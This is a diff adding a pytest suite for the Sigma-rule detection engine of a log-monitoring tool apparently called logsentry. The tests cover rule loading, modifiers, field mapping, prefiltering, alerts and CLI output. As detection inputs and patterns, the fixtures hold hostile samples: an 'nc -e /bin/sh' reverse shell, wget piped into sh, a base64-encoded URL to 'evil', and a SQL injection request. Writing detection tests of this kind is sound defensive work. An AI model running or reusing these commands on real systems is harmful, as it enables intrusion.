@@ -1,0 +1,439 @@
+"""Sigma rules: loading with pySigma, the detection language in memory, field and log
+source mapping, the prefilter, alerts, and the commands that show them.
+
+Every rule here is written for these tests (tests/fixtures/sigma and inline)."""
+
+from __future__ import annotations
+
+import base64
+import os
+import subprocess
+import sys
+from datetime import UTC
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from logsentry.cli import main
+from logsentry.core.event import Event
+from logsentry.detect.config import DetectionConfig
+from logsentry.detect.detector import Detector
+from logsentry.detect.sigma.config import SigmaConfig
+from logsentry.detect.sigma.load import load_sigma
+from logsentry.detect.sigma.ruleset import SigmaRuleSet
+from logsentry.envelope import EnvelopeParser
+
+FIXTURES = Path(__file__).resolve().parent / "fixtures" / "sigma"
+PARSER = EnvelopeParser(tz=UTC)
+SQLI_LINE = ('203.0.113.9 - - [30/Sep/2021:11:11:10 +0200] '
+             '"GET /item.php?id=1%20UNION%20SELECT%20pass HTTP/1.1" 200 162 "-" "curl/7.68.0"')
+
+
+def _ruleset(tmp_path: Path, detection: str, logsource: str = "product: linux",
+             config: SigmaConfig | None = None, extra: str = "") -> SigmaRuleSet:
+    """One rule with this detection (YAML, indented by 4) in a fresh folder."""
+    folder = tmp_path / "rules"
+    folder.mkdir(exist_ok=True)
+    (folder / "rule.yml").write_text(
+        "title: Test rule\nid: 9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d\n"
+        f"logsource:\n    {logsource}\n{extra}detection:\n{detection}\nlevel: medium\n")
+    loaded = load_sigma(config or SigmaConfig(), [folder])
+    assert not loaded.skipped, loaded.skipped
+    return SigmaRuleSet(loaded)
+
+
+def _event(message: str = "", action: str = "other", **fields: Any) -> Event:
+    return Event(message=message, action=action,
+                 fields={name.replace("__", "."): value for name, value in fields.items()})
+
+
+def _matches(rules: SigmaRuleSet, event: Event) -> bool:
+    return rules.matches(event) == [0]
+
+
+# -- loading -----------------------------------------------------------------------
+
+
+def test_usable_rules_load_and_unusable_ones_are_skipped_with_file_and_reason() -> None:
+    loaded = load_sigma(SigmaConfig(), [FIXTURES])
+    assert sorted(spec.rule.title for spec in loaded.rules) == [
+        "Download piped into a shell", "SQL injection keywords in a query string",
+        "SSH server key exchange failure words"]
+    reasons = {Path(s.path).name: s.reason for s in loaded.skipped}
+    assert reasons["broken_modifier.yml"] == "Unknown modifier 'sparkles'"
+    assert "registry_set" in reasons["unknown_category.yml"]
+    assert reasons["not_yaml.yml"].startswith("cannot read:")
+    assert reasons["correlation.yml"] == "Sigma correlation rules are not supported"
+
+
+def test_a_missing_sigma_folder_is_a_configuration_error(tmp_path: Path) -> None:
+    from logsentry.core.errors import ConfigError
+
+    with pytest.raises(ConfigError, match="not found"):
+        load_sigma(SigmaConfig(rules=[str(tmp_path / "nope")]))
+
+
+def test_an_invalid_python_regex_skips_the_rule_not_the_others(tmp_path: Path) -> None:
+    folder = tmp_path / "r"
+    folder.mkdir()
+    # RE2 (pySigma's check) takes \\Q...\\E, Python's re does not.
+    (folder / "a.yml").write_text(
+        "title: Quoted\nlogsource: {product: linux}\n"
+        "detection:\n  sel:\n    CommandLine|re: '\\Qa.b\\E'\n  condition: sel\n")
+    (folder / "b.yml").write_text(
+        "title: Fine\nlogsource: {product: linux}\n"
+        "detection:\n  sel:\n    CommandLine|contains: 'nc -e'\n  condition: sel\n")
+    loaded = load_sigma(SigmaConfig(), [folder])
+    assert [spec.rule.title for spec in loaded.rules] == ["Fine"]
+    assert "not valid in Python" in loaded.skipped[0].reason
+
+
+# -- the detection language ----------------------------------------------------------
+
+
+def test_a_map_needs_every_field_and_a_list_any_value(tmp_path: Path) -> None:
+    rules = _ruleset(tmp_path, """
+    sel:
+        User: root
+        CommandLine:
+            - 'id'
+            - 'whoami'
+    condition: sel""")
+    assert _matches(rules, _event(user__name="root", process__command_line="WHOAMI"))
+    assert not _matches(rules, _event(user__name="bob", process__command_line="whoami"))
+    assert not _matches(rules, _event(user__name="root", process__command_line="whoami -a"))
+
+
+def test_a_list_of_maps_holds_when_one_map_does(tmp_path: Path) -> None:
+    rules = _ruleset(tmp_path, """
+    sel:
+        - User: root
+          CommandLine: id
+        - User: admin
+    condition: sel""")
+    assert _matches(rules, _event(user__name="admin"))
+    assert _matches(rules, _event(user__name="root", process__command_line="id"))
+    assert not _matches(rules, _event(user__name="root", process__command_line="ls"))
+
+
+def test_keywords_search_the_raw_message(tmp_path: Path) -> None:
+    rules = _ruleset(tmp_path, """
+    keywords:
+        - 'segfault at'
+        - 'stack smashing detected'
+    condition: keywords""")
+    assert _matches(rules, _event("kernel: app[12]: SEGFAULT AT 0 ip 0000 sp 0000"))
+    assert not _matches(rules, _event("kernel: all fine"))
+
+
+def test_the_condition_grammar(tmp_path: Path) -> None:
+    rules = _ruleset(tmp_path, """
+    sel_a:
+        CommandLine|contains: alpha
+    sel_b:
+        CommandLine|contains: beta
+    other:
+        User: root
+    filter:
+        CommandLine|contains: gamma
+    condition: (1 of sel_* and not filter) or (all of sel_* and other)""")
+    assert _matches(rules, _event(process__command_line="alpha"))
+    assert not _matches(rules, _event(process__command_line="alpha gamma"))
+    assert _matches(rules, _event(process__command_line="alpha beta gamma", user__name="root"))
+    assert not _matches(rules, _event(process__command_line="delta", user__name="root"))
+
+
+def test_all_of_them_and_1_of_them(tmp_path: Path) -> None:
+    every = _ruleset(tmp_path, """
+    one:
+        CommandLine|contains: alpha
+    two:
+        User: root
+    condition: all of them""")
+    assert _matches(every, _event(process__command_line="alpha", user__name="root"))
+    assert not _matches(every, _event(process__command_line="alpha", user__name="bob"))
+    some = _ruleset(tmp_path, """
+    one:
+        CommandLine|contains: alpha
+    two:
+        User: root
+    condition: 1 of them""")
+    assert _matches(some, _event(process__command_line="x", user__name="root"))
+
+
+@pytest.mark.parametrize(
+    ("test", "value", "expected"),
+    [
+        ("CommandLine|contains: 'wget '", "/usr/bin/WGET http://x", True),
+        ("CommandLine|startswith: 'sudo '", "sudo -i", True),
+        ("CommandLine|startswith: 'sudo '", "echo sudo -i", False),
+        ("CommandLine|endswith: '.sh'", "bash /tmp/X.SH", True),
+        ("CommandLine|endswith: '.sh'", "bash /tmp/x.sh.bak", False),
+        ("CommandLine|contains|all: ['nc', '-e']", "nc -e /bin/sh 1.2.3.4", True),
+        ("CommandLine|contains|all: ['nc', '-e']", "nc 1.2.3.4", False),
+        ("CommandLine|re: 'chmod [0-7]*7 '", "chmod 777 /tmp/x", True),
+        ("CommandLine|re: 'CHMOD'", "chmod 777 /tmp/x", False),
+        ("CommandLine|re|i: 'CHMOD'", "chmod 777 /tmp/x", True),
+        ("CommandLine: '*/tmp/?.sh'", "sh /tmp/a.sh", True),
+        ("CommandLine: '*/tmp/?.sh'", "sh /tmp/ab.sh", False),
+        ("CommandLine: 'python*-c*import'", "python3 -c 'import os' import", True),
+        ("CommandLine: 'python*-c*import'", "python3 -c 'import os' x", False),
+        ("CommandLine|cased: 'Secret'", "Secret", True),
+        ("CommandLine|cased: 'Secret'", "secret", False),
+        ("CommandLine|base64: 'curl'", "echo Y3VybA== | base64 -d", False),
+        ("CommandLine|base64: 'curl'", "Y3VybA==", True),
+        ("CommandLine|windash|contains: ' -enc '", "powershell /enc AAA", True),
+        ("CommandLine|windash|contains: ' -enc '", "powershell \u2013enc AAA", True),
+        ("CommandLine|windash|contains: ' -enc '", "powershell enc AAA", False),
+    ],
+)
+def test_value_modifiers_and_wildcards(tmp_path: Path, test: str, value: str,
+                                       expected: bool) -> None:
+    rules = _ruleset(tmp_path, f"    sel:\n        {test}\n    condition: sel")
+    assert _matches(rules, _event(process__command_line=value)) is expected
+
+
+def test_base64offset_finds_the_text_at_any_alignment(tmp_path: Path) -> None:
+    rules = _ruleset(tmp_path, """
+    sel:
+        CommandLine|base64offset|contains: 'http://'
+    condition: sel""")
+    for prefix in ("", "a", "ab"):
+        encoded = base64.b64encode(f"{prefix}http://evil/x".encode()).decode()
+        assert _matches(rules, _event(process__command_line=f"sh -c {encoded}")), prefix
+    assert not _matches(rules, _event(process__command_line="sh -c aGVsbG8="))
+
+
+def test_cidr_numbers_and_comparisons(tmp_path: Path) -> None:
+    rules = _ruleset(tmp_path, """
+    sel:
+        c-ip|cidr: '192.0.2.0/24'
+        sc-status|gte: 500
+        cs-bytes|lt: 100
+    condition: sel""", logsource="category: webserver")
+    web = {"url__original": "/", "http__request__body__bytes": 10}
+    assert _matches(rules, _event(source__ip="192.0.2.7", http__response__status_code=503,
+                                  **web))
+    assert not _matches(rules, _event(source__ip="192.0.3.7",
+                                      http__response__status_code=503, **web))
+    assert not _matches(rules, _event(source__ip="192.0.2.7",
+                                      http__response__status_code=404, **web))
+    equal = _ruleset(tmp_path, """
+    sel:
+        sc-status: 404
+    condition: sel""", logsource="category: webserver")
+    assert _matches(equal, _event(url__original="/", http__response__status_code=404))
+    assert _matches(equal, _event(url__original="/", http__response__status_code="404"))
+
+
+def test_exists_null_and_fieldref(tmp_path: Path) -> None:
+    exists = _ruleset(tmp_path, """
+    sel:
+        ParentImage|exists: true
+        ParentCommandLine: null
+    condition: sel""")
+    assert _matches(exists, _event(process__parent__executable="/bin/sh"))
+    assert not _matches(exists, _event(process__parent__executable="/bin/sh",
+                                       process__parent__command_line="sh -c x"))
+    assert not _matches(exists, _event())
+    same = _ruleset(tmp_path, """
+    sel:
+        User|fieldref: TargetUser
+    condition: sel""")
+    assert _matches(same, _event(user__name="Bob", TargetUser="bob"))
+    assert not _matches(same, _event(user__name="bob", TargetUser="alice"))
+    assert not _matches(same, _event(user__name="bob"))
+
+
+def test_a_list_field_holds_when_one_item_does(tmp_path: Path) -> None:
+    rules = _ruleset(tmp_path, """
+    sel:
+        type: SYSCALL
+        a1: '-c'
+    condition: sel""", logsource="product: linux\n    service: auditd")
+    event = _event(auditd__message_type="syscall", process__args=["sh", "-c", "id"])
+    assert _matches(rules, event)
+    event.fields["process.args"] = ["sh", "-x"]
+    assert not _matches(rules, event)
+
+
+# -- mapping --------------------------------------------------------------------------
+
+
+def test_webserver_fields_map_to_the_access_log_envelope(tmp_path: Path) -> None:
+    rules = _ruleset(tmp_path, """
+    sel:
+        cs-method: GET
+        cs-uri-stem|endswith: '.php'
+        cs-uri-query|contains: 'union'
+        cs-user-agent|startswith: 'curl/'
+        sc-status: 200
+    condition: sel""", logsource="category: webserver")
+    assert _matches(rules, PARSER.parse(SQLI_LINE, 0.0))
+    assert not _matches(rules, PARSER.parse(SQLI_LINE.replace("?id=1%20UNION", "?x="), 0.0))
+
+
+def test_the_logsource_must_fit_the_event(tmp_path: Path) -> None:
+    rules = _ruleset(tmp_path, """
+    keywords:
+        - 'authentication failure'
+    condition: keywords""", logsource="product: linux\n    service: sudo")
+    sudo = PARSER.parse("Jan  1 10:00:00 h1 sudo: pam_unix(sudo:auth): authentication "
+                        "failure; logname=bob", 0.0)
+    other = PARSER.parse("Jan  1 10:00:00 h1 su: pam_unix(su:auth): authentication "
+                         "failure; logname=bob", 0.0)
+    assert _matches(rules, sudo)
+    assert not _matches(rules, other)
+    web = _ruleset(tmp_path, """
+    keywords:
+        - 'union'
+    condition: keywords""", logsource="category: webserver")
+    assert _matches(web, PARSER.parse(SQLI_LINE, 0.0))
+    assert not _matches(web, PARSER.parse("Jan  1 10:00:00 h1 app: union select", 0.0))
+
+
+def test_the_configuration_adds_fields_and_services(tmp_path: Path) -> None:
+    config = SigmaConfig(fields={"TenantName": "organization.name"},
+                         services={"myapp": ["myapp-worker"]})
+    rules = _ruleset(tmp_path, """
+    sel:
+        TenantName: acme
+    condition: sel""", logsource="product: linux\n    service: myapp", config=config)
+    assert _matches(rules, _event(process__name="myapp-worker", organization__name="ACME"))
+    assert not _matches(rules, _event(process__name="myapp", organization__name="ACME"))
+
+
+def test_unmapped_names_read_ecs_fields_directly(tmp_path: Path) -> None:
+    rules = _ruleset(tmp_path, """
+    sel:
+        source.ip|cidr: 198.51.100.0/24
+    condition: sel""")
+    assert _matches(rules, _event(source__ip="198.51.100.5"))
+
+
+# -- prefilter ------------------------------------------------------------------------
+
+
+def _templated(folder: Path, count: int) -> None:
+    folder.mkdir()
+    for n in range(count):
+        (folder / f"r{n}.yml").write_text(
+            f"title: Tool {n}\nlogsource: {{product: linux}}\n"
+            f"detection:\n  sel:\n    CommandLine|contains: 'tool{n:04d}x'\n"
+            f"  condition: sel\n")
+
+
+def test_only_rules_whose_literals_occur_are_evaluated(tmp_path: Path) -> None:
+    _templated(tmp_path / "many", 200)
+    rules = SigmaRuleSet(load_sigma(SigmaConfig(), [tmp_path / "many"]))
+    assert rules.prefilter.always == ()
+    event = _event("run tool0042x now", process__command_line="run tool0042x now")
+    index = [rule.title for rule in rules.rules].index("Tool 42")
+    assert list(rules.prefilter.candidates(event)) == [index]
+    assert rules.matches(event) == [index]
+    assert list(rules.prefilter.candidates(_event("nothing here"))) == []
+
+
+def test_the_prefilter_never_hides_a_match(tmp_path: Path) -> None:
+    """Every rule evaluated on every event gives the same matches as the prefilter's pick."""
+    loaded = load_sigma(SigmaConfig(), [FIXTURES])
+    rules = SigmaRuleSet(loaded)
+    lines = [SQLI_LINE, "Jan  1 10:00:00 web1 sshd[1]: no matching KEY exchange method",
+             '{"ID":"1732600000.125:4410","SYSCALL":{"arch":"0xc000003e","syscall":59,'
+             '"SYSCALL":"execve","success":"yes","exit":0,"pid":4,"ppid":3,"uid":0,"UID":"root",'
+             '"comm":"wget","exe":"/usr/bin/wget"},"EXECVE":{"argc":3,'
+             '"ARGV":["wget","-qO-","http://x/a.sh | sh"]}}',
+             "Jan  1 10:00:00 web1 kernel: nothing"]
+    events = [PARSER.parse(line, 0.0) for line in lines]
+    # A decoded record's fields need not be in its raw text (auditd hex-encodes arguments).
+    events.append(_event("type=EXECVE msg=audit(1.0:2): argc=2 a0=77676574 a1=7C207368",
+                         "process_started", process__executable="/usr/bin/wget",
+                         process__command_line="wget | sh"))
+    for event in events:
+        brute = [i for i, spec in enumerate(loaded.rules)
+                 if (spec.logsource is None or spec.logsource(event)) and spec.predicate(event)]
+        assert rules.matches(event) == brute
+    assert sum(bool(rules.matches(event)) for event in events) == 4
+
+
+# -- alerts and the detector ----------------------------------------------------------------
+
+
+def test_alerts_carry_level_tags_title_description_id_and_events(tmp_path: Path) -> None:
+    config = DetectionConfig(rules=[str(tmp_path / "none")],
+                             sigma=SigmaConfig(rules=[str(FIXTURES)]))
+    (tmp_path / "none").mkdir()
+    detector = Detector.from_config(config, None)
+    alerts = detector.process([PARSER.parse(SQLI_LINE, 0.0)])
+    assert len(alerts) == 1
+    alert = alerts[0]
+    assert alert.rule_id == "5f0c1a52-8d1e-4a61-9b1c-0e2f3a4b5c61"
+    assert alert.severity == "high"
+    assert alert.techniques == ["T1190"]
+    assert "attack.initial-access" in alert.tags
+    assert alert.message.startswith("Sigma: SQL injection keywords in a query string: Union")
+    doc = alert.to_ecs()
+    assert doc["logsentry"]["events"][0]["url"]["original"].startswith("/item.php")
+    assert doc["rule"]["name"] == "SQL injection keywords in a query string"
+
+
+def test_sigma_rule_state_is_saved_and_bounded_like_native_state(tmp_path: Path) -> None:
+    (tmp_path / "none").mkdir()
+    config = DetectionConfig(rules=[str(tmp_path / "none")],
+                             sigma=SigmaConfig(rules=[str(FIXTURES)]), memory_cap_mb=1)
+    detector = Detector.from_config(config, tmp_path)
+    events = [PARSER.parse(SQLI_LINE.replace("203.0.113.9", f"198.51.{n // 256}.{n % 256}"),
+                           0.0) for n in range(20_000)]
+    alerts = detector.process(events)
+    assert len(alerts) == 20_000  # one group per client address
+    assert detector.memory_bytes <= detector.memory_cap_bytes
+    assert detector.evictions > 0
+    detector.save_state()
+    again = Detector.from_config(config, tmp_path)
+    assert again.group_count == detector.group_count
+    # A restored group is still suppressed: the same client does not alert again.
+    last = events[-1]
+    assert again.process([last]) == []
+
+
+def test_analyze_with_sigma_prints_the_alerts(tmp_path: Path) -> None:
+    log = tmp_path / "access.log"
+    log.write_text(SQLI_LINE + "\n")
+    (tmp_path / "none.yaml").write_text("")
+    result = subprocess.run(
+        [sys.executable, "-m", "logsentry.cli", "analyze", "--no-model", "--format", "jsonl",
+         "--rules", str(tmp_path / "none.yaml"), "--sigma", str(FIXTURES), str(log)],
+        capture_output=True, timeout=120, env=os.environ.copy())
+    assert b"5f0c1a52-8d1e-4a61-9b1c-0e2f3a4b5c61" in result.stdout, result.stderr
+    assert b"sigma skipped" in result.stderr
+
+
+# -- commands -----------------------------------------------------------------------------
+
+
+def test_sigma_test_prints_which_rule_matched_which_line(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    log = tmp_path / "mixed.log"
+    log.write_text("Jan  1 10:00:00 web1 sshd[1]: hello\n" + SQLI_LINE + "\n")
+    status = main(["sigma", "test", str(FIXTURES / "web_sqli.yml"), str(log),
+                   "--model", "never"])
+    out = capsys.readouterr().out
+    assert status == 0
+    assert "      2  5f0c1a52-8d1e-4a61-9b1c-0e2f3a4b5c61  SQL injection" in out
+    assert "sshd[1]: hello" not in out
+    status = main(["sigma", "test", str(FIXTURES), str(log), "--model", "never"])
+    out = capsys.readouterr().out
+    assert status == 1  # rules were skipped
+    assert "Unknown modifier 'sparkles'" in out
+
+
+def test_check_config_lists_loaded_and_skipped_sigma_rules(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    config = tmp_path / "config.yaml"
+    config.write_text(f"detection:\n  sigma:\n    rules: [{FIXTURES}]\n")
+    assert main(["check-config", "--config", str(config)]) == 0
+    err = capsys.readouterr().err
+    assert "# sigma: 3 rules loaded, 4 skipped" in err
+    assert "# sigma loaded: 7d2e9c11-3b4a-4c5d-8e6f-1a2b3c4d5e70 critical" in err
+    assert "broken_modifier.yml 'A rule with a modifier that does not exist': Unknown" in err
